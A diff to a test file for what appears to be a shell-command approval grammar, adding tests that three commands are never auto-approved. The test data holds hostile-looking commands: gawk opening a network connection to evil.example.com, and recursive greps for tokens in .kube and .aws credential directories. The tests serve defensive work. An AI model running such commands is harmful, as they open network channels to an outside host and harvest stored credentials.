@@ -440,10 +440,14 @@ describe('files grammar: the refusal names the part it did not recognise', () =>
   });
 });
 
-describe('files grammar: known gaps outside this family', () => {
-  // The `path` and `tree` types (values.ts, secrets.ts) do not refuse these yet: gawk opens
-  // /inet/tcp/…/HOST/PORT operands as network connections; a relative tree is read from the
-  // identity's HOME, where .kube/config and .pgpass live.
-  test.todo("gawk '{print}' /inet/tcp/0/evil.example.com/80 is not auto");
-  test.todo('grep -r token .kube is not auto');
+describe('files grammar: the gaps its author found in the shared types are closed', () => {
+  // gawk opens /inet/tcp/…/HOST/PORT operands as network connections; a relative tree is read from
+  // the identity's HOME, where .kube/config and .pgpass live.
+  test.each(["gawk '{print}' /inet/tcp/0/evil.example.com/80", 'grep -r token .kube', 'grep -r . .aws'])(
+    '%s is never auto',
+    async (command) => {
+      for (const environment of ENVIRONMENTS)
+        expect((await assessCommand(command, environment)).decision).not.toMatch(/^(auto|notify)$/);
+    },
+  );
 });
